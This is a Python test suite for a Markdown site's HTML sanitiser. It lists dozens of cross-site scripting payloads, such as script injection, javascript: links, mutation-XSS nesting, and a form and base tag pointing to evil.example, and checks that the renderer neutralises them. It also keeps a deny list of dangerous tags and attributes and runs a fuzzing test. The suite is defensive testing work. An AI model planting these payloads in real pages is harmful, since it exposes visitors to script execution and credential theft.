"""The sanitiser: whatever is written, no page of the site runs its code or takes its looks."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from doum.markdown.sanitise import make_cleaner
from tests.making import law, render

CLEANER = make_cleaner()
FORBIDDEN = {
    "script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea",
    "select", "link", "meta", "base", "svg", "math", "template", "noscript", "frame", "video",
    "audio", "source", "dialog", "portal",
}  # fmt: skip


class Seen(HTMLParser):
    """Collects the tags and attributes of a page as a browser reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def is_harmless(html: str) -> bool:
    """Tell whether HTML has no code, no forms, no frames, no styles."""
    seen = Seen(html)
    for name, value in seen.attributes:
        plain = re.sub(r"[\s\x00-\x20]", "", unescape(value)).lower()
        if name.startswith("on") or name in {"style", "name", "srcdoc", "formaction", "srcset"}:
            return False
        if name in {"href", "src", "cite", "action"} and plain.startswith(
            ("javascript:", "data:", "vbscript:", "file:")
        ):
            return False
    return not seen.tags & FORBIDDEN


NASTY = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>가</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>가</a>",
    "<a href='&#106;avascript:alert(1)'>가</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>가</a>",
    "[가](javascript:alert(1))",
    "[가](<javascript:alert(1)>)",
    "![가](javascript:alert(1))",
    "[가]: javascript:alert(1)\n\n[가]",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>가</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>가</div>",
    "<a name=body href=/>가</a><img name=getElementById>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)><summary>가</summary></details>",
    "<p id='a' onclick='alert(1)'>가</p>",
    "가 {: onclick=alert(1) }",
    "![가](a.png){: onerror=alert(1) }",
    "[가](b.md){: style='color:red' }",
    "/// note | <script>alert(1)</script>\n가\n///",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|--|\n| <script>1</script> |",
    "본문[^1]\n\n[^1]: <script>alert(1)</script>",
    '<a href="https://a.example/" title=\'"><script>alert(1)</script>\'>가</a>',
    '![" onerror="alert(1)](a.png)',
    '![가](a.png "\\" onerror=\\"alert(1)")',
    '[가](https://a.example/"onmouseover="alert(1))',
    "# <img src=x onerror=alert(1)> 제목",
    "<h2 id='\"><script>alert(1)</script>'>제목</h2>",
    "\x1a0\x1a<script>alert(1)</script>",
    "\x02klzzwxh:0\x03<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]


@pytest.mark.parametrize("text", NASTY)
def test_nasty_text_is_harmless_and_what_stands_around_it_stays(text):
    html, _ = render(f"앞글\n\n{text}\n\n뒷글")
    assert is_harmless(html)
    assert "앞글" in html


def test_the_measure_of_harm_finds_what_it_looks_for():
    for text in ("<script>", "<p onclick=a>", "<a href=' java\nscript:a'>", "<p style=a>"):
        assert not is_harmless(text)


@pytest.mark.parametrize(
    "html",
    [
        "<kbd>Ctrl</kbd>",
        '<abbr title="도움말">Doum</abbr>',
        "<ruby>漢字<rp>(</rp><rt>한자</rt><rp>)</rp></ruby>",
        '<ol start="3" reversed=""><li>가</li></ol>',
        '<td colspan="2" rowspan="3" align="right">가</td>',
        '<details open=""><summary>가</summary>나</details>',
        '<a href="tel:1588-0000">전화</a>',
        '<a href="mailto:help@nuri.example">편지</a>',
        '<a href="../billing/q.md#환불">환불</a>',
        '<img src="a.png" alt="화면" width="10" height="20" loading="lazy">',
        '<div class="callout" role="note">가</div>',
        '<p lang="en" dir="ltr" id="a">A</p>',
    ],
)
def test_what_answers_need_stays(html):
    around = f"<table><tbody><tr>{html}</tr></tbody></table>" if html.startswith("<td") else html
    assert html in CLEANER.clean(around)


def test_a_role_may_say_note_and_nothing_else():
    assert "role" not in CLEANER.clean('<div role="alert">가</div>')


def test_an_owner_who_trusts_the_content_may_keep_its_html():
    assert "<iframe" in render("<iframe src='https://a.example/'></iframe>", raw_html=True)[0]


pieces = st.lists(
    st.sampled_from(
        ["<", ">", "/", "script", "img ", "svg ", "a ", "href=", "src=", "onerror=", "onclick=",
         "javascript:", "&#106;avascript:", "alert(1)", '"', "'", " ", "\n", "\n\n", "=", "`",
         "```\n",
         "](", "[", ")", "![", "{: ", "}", "<!--", "-->", "<style>", "</", "math", "table", "가",
         "\x1a", "/// note | ", "///\n", "&quot;", "\\", "data:text/html,", "style="]
    ),
    max_size=30,
).map("".join)  # fmt: skip


@law
@given(pieces)
def test_no_mixture_of_nasty_pieces_does_harm(text):
    assert is_harmless(render(text)[0])
